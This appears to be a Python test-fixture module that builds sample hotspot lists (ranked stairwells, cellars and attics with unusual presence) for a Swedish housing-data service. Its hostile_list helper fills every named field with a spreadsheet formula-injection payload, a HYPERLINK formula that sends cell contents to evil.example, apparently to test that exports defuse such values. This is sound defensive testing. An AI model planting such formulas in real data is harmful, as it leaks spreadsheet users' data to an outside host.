"""A list with everything on it that a list can hold, and texts that a spreadsheet would run if it were let."""

from __future__ import annotations

from datetime import UTC, datetime

import msgspec

from service.domain.hotspots import (
    Block,
    Change,
    GoneEntry,
    HotspotEntry,
    HotspotList,
    ListSource,
    Trend,
    UnknownPlaces,
)
from service.domain.places import Liveness

MADE = datetime(2026, 11, 19, 4, 5, tzinfo=UTC)
SEEN = datetime(2026, 11, 13, 23, 30, tzinfo=UTC)  # the 14th in Stockholm
STARTS = ("=", "+", "-", "@", "\t", "\r")

WEEK = [[0] * 24 for _ in range(7)]
WEEK[3][22:] = [4, 2]
WEEK[4][:3] = [1, 7, 1]
WEEK[0][9] = 1


def entry(rank: int = 1, **more: object) -> HotspotEntry:
    known = {
        "rank": rank,
        "tenant": "norrbo",
        "area": "Södra",
        "property": "Kvarnen",
        "building": "kvarnen-3",
        "stairwell": f"kvarnen-{rank}a",
        "address": f"Kvarngatan {rank}",
        "latitude": 59.33,
        "longitude": -18.06,
        "space": "K2",
        "space_kind": "cellar",
        "kind": "emerging",
        "weekdays": [3, 4, 5],
        "from_hour": 22,
        "to_hour": 3,
        "observed": 14.0,
        "expected": 1.94,
        "days": 5,
        "first_seen": MADE,
        "last_seen": SEEN,
        "further_blocks": [block()],
        "trend": Trend.RISING,
        "week": WEEK,
        "score": 4.7,
        "p_value": 0.00002,
        "significant": True,
        "confidence": 0.99996,
        "coverage": 0.996,
        "change": Change.UP,
        "previous_rank": 4,
        "reason_sv": "14 vistelser där 1,9 är normalt.",
        "reason_en": "14 presences where 1.9 are normal.",
    }
    return HotspotEntry(**{**known, **more})


def block(**more: object) -> Block:
    known = {
        "space": "attic",
        "space_kind": "attic",
        "kind": "chronic",
        "weekdays": [6],
        "from_hour": 18,
        "to_hour": 21,
        "observed": 5.0,
        "expected": 0.1,
        "days": 2,
        "first_seen": MADE,
        "last_seen": SEEN,
    }
    return Block(**{**known, **more})


def rich_list(*entries: HotspotEntry, **more: object) -> HotspotList:
    """A list of an area, with places that are gone and unknown."""
    known = {
        "list_id": "2026-11-19-041",
        "number": 41,
        "tenant": "norrbo",
        "area": "Södra",
        "made": MADE,
        "watermark": MADE,
        "version": "7",
        "retrained": MADE,
        "timezone": "Europe/Stockholm",
        "days": 14,
        "false_discovery_rate": 0.05,
        "places": 120,
        "unknown_places": 2,
        "unknown": [UnknownPlaces(tenant="norrbo", area="Södra", stairwells=["linden-1b", "linden-2"])],
        "suppressed": 3,
        "held_back": 1,
        "previous": "2026-11-12-034",
        "entries": list(entries) or several(),
        "gone": [GoneEntry(tenant="norrbo", area="Södra", stairwell="eken-1", address="Ekgatan 1", previous_rank=2)],
    }
    return HotspotList(**{**known, **more})


def several() -> list[HotspotEntry]:
    """Entries of every kind, and one of which little is known."""
    bare = {"trend": None, "week": [], "further_blocks": [], "confidence": None, "coverage": None, "latitude": None}
    return [
        entry(1),
        entry(2, change=Change.NEW, previous_rank=None, kind="chronic", trend=Trend.FALLING, expected=0.04),
        entry(3, change=Change.DOWN, previous_rank=1, significant=False, warming_up=True, liveness=Liveness.ASSUMED),
        entry(4, change=Change.SAME, significant=False, address="", **bare),
    ]


def joint_list() -> HotspotList:
    """A list made of two companies' lists."""
    sources = [
        ListSource(tenant=tenant, list_id="1", area=None, version="7", watermark=MADE, approved=MADE, digest=tenant)
        for tenant in ("norrbo", "söderhem")
    ]
    return rich_list(entry(1), entry(2, tenant="söderhem"), tenant="*", area=None, sources=sources)


def hostile_list(start: str) -> HotspotList:
    """A list on which everything that people and programs outside have named begins like a formula."""
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1;"x")'
    named = dict.fromkeys(("tenant", "area", "property", "building", "stairwell", "address", "space"), evil)
    gone = GoneEntry(tenant=evil, area=evil, stairwell=evil, address=evil, previous_rank=1)
    return rich_list(
        entry(1, **named, reason_sv=evil, reason_en=evil, further_blocks=[block(space=evil, space_kind=evil)]),
        tenant=evil,
        area=evil,
        version=evil,
        gone=[gone],
        unknown=[UnknownPlaces(tenant=evil, area=evil, stairwells=[evil])],
    )


def canonical(listed: HotspotList) -> bytes:
    return msgspec.json.encode(listed)
